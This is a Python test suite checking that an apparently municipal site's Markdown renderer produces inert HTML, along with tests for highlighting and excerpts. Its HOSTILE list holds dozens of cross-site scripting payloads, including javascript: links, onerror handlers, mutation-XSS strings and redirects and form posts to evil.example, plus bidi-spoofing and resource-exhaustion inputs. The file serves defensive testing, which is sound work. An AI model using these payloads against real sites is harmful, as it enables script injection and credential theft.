"""Hostile text is text: whatever is written in an article, nothing of it runs, loads or leads elsewhere."""

from __future__ import annotations

import html
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from api.rendering import EXCERPT, excerpt, marked, rendered

TAGS = {
    *("p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "pre", "code", "em", "strong", "s", "a"),
    *("ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td", "mark"),
}
HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<a href='javascript:alert(1)'>hier</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=//evil.example><input name=pin><button>Senden</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<style>@import '//evil.example/x.css';</style>",
    "<body onload=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[hier](javascript:alert(1))",
    "[hier](JaVaScRiPt:alert(1))",
    "[hier](java\nscript:alert(1))",
    "[hier](&#106;avascript:alert(1))",
    "[hier](&#x6A;avascript&colon;alert(1))",
    "[hier](\x01javascript:alert(1))",
    "[hier](vbscript:msgbox(1))",
    "[hier](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[hier](file:///etc/passwd)",
    "[hier](//evil.example/x)",
    "[hier](/api/v1/inquiries)",
    "[hier](http:evil)",
    "[hier]: javascript:alert(1)\n\n[hier]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![Bild](https://evil.example/count.gif)",
    "![Bild](data:image/svg+xml;base64,PHN2Zy8+)",
    '![x](x "onerror=alert(1)")',
    '[a](https://example.org "x\\" onmouseover=alert(1) y=\\"")',
    '[a](https://example.org"onmouseover=alert(1))',
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '``` "><script>alert(1)</script>\nx\n```',
    "> - # *<b onclick=alert(1)>x</b>*",
    "|a|\n|-|\n|<script>alert(1)</script>|",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "Bescheid \u202elnk.exe\u202c",
    "\u2066[hier](https://example.org)\u2069",
    "[Amt\u202e](https://gpj.example)",
    "*" * 5000 + "a" + "*" * 5000,
    "[" * 500 + "](javascript:alert(1))" * 500,
    "> " * 300 + "tief",
]


class Elements(HTMLParser):
    """What a browser would make of it: tags, attributes, and text."""

    def __init__(self, written: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.text = ""
        self.feed(written)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.tags.add("comment")

    def handle_decl(self, decl: str) -> None:
        self.tags.add("declaration")

    def unknown_decl(self, data: str) -> None:
        self.tags.add("declaration")

    def handle_pi(self, data: str) -> None:
        self.tags.add("instruction")


def demand_inert(written: str) -> Elements:
    found = Elements(written)
    assert found.tags <= TAGS
    for tag, name, value in found.attributes:
        assert (tag, name) in {("a", "href"), ("a", "title"), ("a", "rel"), ("ol", "start")}
        if name == "href":
            assert value.lower().startswith(("http://", "https://", "mailto:", "tel:"))
        if name == "rel":
            assert "noopener" in value.split()
    assert not set(written) & set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\x00\x01")
    return found


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_it_is_inert(text: str) -> None:
    demand_inert(rendered(text))
    whole = demand_inert(marked(text, [(0, len(text))]))
    assert whole.tags == {"mark"}


@given(st.lists(st.sampled_from([*HOSTILE[:-3], "\n", "\n\n", "- ", "1. ", "> ", "*", "`", "[", "]("]), max_size=6))
def test_it_is_inert_in_any_company(parts: list[str]) -> None:
    demand_inert(rendered("".join(parts)))


@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=60))
def test_it_is_inert_whatever_it_is(text: str) -> None:
    demand_inert(rendered(text))


def test_what_is_meant_well_looks_as_it_is_meant() -> None:
    text = (
        "## Anmeldung\n\nBitte **vorher** *anmelden*:\n\n1. [Formular](https://stadt.example/form?a=1&b=2)\n"
        "2. [Telefon](tel:+49115), <mailto:abfall@stadt.example>\n\n| Tag | Zeit |\n|---|---|\n| Mo | 8–12 |\n\n~~alt~~"
    )
    found = Elements(rendered(text))
    assert {"h2", "strong", "em", "ol", "li", "a", "table", "td", "s"} <= found.tags
    links = [value for _, name, value in found.attributes if name == "href"]
    assert links == ["https://stadt.example/form?a=1&b=2", "tel:+49115", "mailto:abfall@stadt.example"]
    assert "8–12" in found.text


def test_what_matches_is_marked_and_the_text_stays_the_same() -> None:
    assert marked("Müll & <Sperrmüll>", [(0, 4), (8, 17)]) == "<mark>Müll</mark> &amp; &lt;<mark>Sperrmüll</mark>&gt;"
    assert html.unescape(marked("a <b> & c", [])) == "a <b> & c"


def test_an_excerpt_shows_what_matches_in_whole_words() -> None:
    text = "Wort " * 100 + "Sperrmüll " + "danach " * 100
    place = text.index("Sperrmüll")
    shown, ranges = excerpt(text, [(place, place + 9)])
    assert [shown[begin:end] for begin, end in ranges] == ["Sperrmüll"]
    assert len(shown) <= EXCERPT
    assert set(shown.split()) == {"Wort", "Sperrmüll", "danach"}
    assert excerpt("kurz", [(0, 4)]) == ("kurz", [(0, 4)])
    long = "x" * 1000
    assert excerpt(long, [(0, 1000)]) == (long, [(0, 1000)])


def test_what_was_shown_is_not_made_again() -> None:
    first, second = (rendered(" ".join(("*Was* bei", "jedem Tastendruck", "kommt"))) for _ in range(2))
    assert first is second
